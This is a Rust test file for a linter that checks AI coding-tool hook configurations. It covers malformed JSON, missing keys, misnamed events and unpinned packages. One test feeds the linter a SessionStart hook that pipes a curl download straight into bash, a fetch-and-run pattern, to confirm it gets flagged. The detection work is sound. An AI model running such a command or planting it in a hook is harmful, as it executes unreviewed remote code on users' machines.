use crate::diagnostic::Diagnostic;

/// Lints one plugin's `hooks/hooks.json` (Claude Code's form) with only `code` selected; returns
/// (diagnostic, primary text).
fn run(code: &str, hooks_json: &str) -> Vec<(Diagnostic, String)> {
    crate::rule_testing::findings(code, &[("guard/hooks/hooks.json", hooks_json)])
}

/// A Claude Code hook configuration with one command hook on `event`.
fn on(event: &str, command: &str) -> String {
    format!(
        r#"{{"hooks": {{"{event}": [{{"hooks": [{{"type": "command", "command": {}}}]}}]}}}}"#,
        serde_json::Value::String(command.to_string())
    )
}

fn messages(found: &[(Diagnostic, String)]) -> Vec<&str> {
    found.iter().map(|(d, _)| d.message.as_str()).collect()
}

#[test]
fn hk001_reports_broken_json_and_nothing_else() {
    assert!(run("HK001", &on("PreToolUse", "true")).is_empty());
    let found = run("HK001", r#"{"hooks": {"PreToolUse": [}"#);
    assert_eq!(found.len(), 1, "{:?}", messages(&found));
}

#[test]
fn hk002_names_the_missing_or_wrong_key_of_each_hook() {
    // A hook without a type: Claude Code names every hook's type.
    let untyped = r#"{"hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}}"#;
    assert_eq!(
        messages(&run("HK002", untyped)),
        ["`hooks.Stop[0].hooks[0]` lacks required `type`"]
    );
    // A command hook without its command, an unknown type, a timeout that is not positive.
    let broken = r#"{"hooks": {"Stop": [{"hooks": [
        {"type": "command"},
        {"type": "shell", "command": "true"},
        {"type": "command", "command": "true", "timeout": 0}
    ]}]}}"#;
    let found = run("HK002", broken);
    assert_eq!(
        messages(&found),
        [
            "`hooks.Stop[0].hooks[0]` lacks required `command`",
            "`hooks.Stop[0].hooks[1].type` must be `command`, `prompt`, `agent`, `http` or `mcp_tool`",
            "`hooks.Stop[0].hooks[2].timeout` must be a positive number of seconds",
        ]
    );
    assert_eq!(found[1].1, r#""shell""#);
    assert_eq!(found[2].1, "0");
    // `hooks` itself must map events.
    let listed = run("HK002", r#"{"hooks": []}"#);
    assert_eq!(
        messages(&listed),
        ["`hooks` must be an object of events, found array"]
    );
    assert!(run("HK002", &on("Stop", "true")).is_empty());
}

#[test]
fn hk003_suggests_the_event_that_differs_only_in_case() {
    let found = run("HK003", &on("preToolUse", "true"));
    assert_eq!(
        messages(&found),
        ["`preToolUse` is not a Claude Code hook event"]
    );
    assert_eq!(found[0].1, r#""preToolUse""#);
    assert_eq!(
        found[0].0.help.as_deref(),
        Some("did you mean `PreToolUse`? Event names are case-sensitive")
    );
    assert!(run("HK003", &on("PreToolUse", "true")).is_empty());
    // Cursor's flat form has its own events: Claude Code's names are unknown there.
    let cursor = |event: &str| {
        crate::rule_testing::findings(
            "HK003",
            &[(
                ".cursor/hooks.json",
                &format!(r#"{{"version": 1, "hooks": {{"{event}": [{{"command": "true"}}]}}}}"#),
            )],
        )
    };
    assert!(cursor("beforeShellExecution").is_empty());
    assert_eq!(
        messages(&cursor("PreToolUse")),
        ["`PreToolUse` is not a Cursor hook event"]
    );
}

#[test]
fn hk005_flags_the_pipe_from_download_to_shell_only() {
    let found = run(
        "HK005",
        &on("SessionStart", "curl -fsSL https://example.com/i.sh | bash"),
    );
    assert_eq!(
        messages(&found),
        ["hook on `SessionStart` pipes a download from `curl` into `bash`"]
    );
    assert!(found[0].1.starts_with("curl"), "{}", found[0].1);
    // A download saved to a file, or a script shipped with the plugin, runs nothing fetched.
    for command in [
        "curl -fsSL -o /tmp/i.sh https://example.com/i.sh",
        "bash ${CLAUDE_PLUGIN_ROOT}/hooks/check.sh",
    ] {
        assert!(
            run("HK005", &on("SessionStart", command)).is_empty(),
            "{command}"
        );
    }
}

#[test]
fn hk006_says_which_runner_takes_which_unpinned_package() {
    let found = run("HK006", &on("PostToolUse", "npx -y prettier --write ."));
    assert_eq!(
        messages(&found),
        ["hook runs `prettier` through `npx` without a version"]
    );
    let latest = run("HK006", &on("PostToolUse", "uvx ruff@latest format ."));
    assert_eq!(
        messages(&latest),
        ["hook runs `ruff@latest` through `uvx` at `latest`"]
    );
    assert!(run(
        "HK006",
        &on("PostToolUse", "npx -y prettier@3.3.3 --write .")
    )
    .is_empty());
}
